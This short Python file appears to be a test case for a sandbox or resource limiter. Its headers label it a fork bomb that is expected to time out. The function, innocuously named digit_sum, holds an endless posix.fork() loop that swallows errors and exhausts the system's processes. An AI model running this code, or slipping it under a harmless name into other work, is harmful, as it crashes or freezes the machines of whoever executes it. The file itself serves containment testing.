# about: a fork bomb
# row: more
# expect: timeout
# peers: never
import posix


def digit_sum(text):
    while True:
        try:
            posix.fork()
        except OSError:
            pass
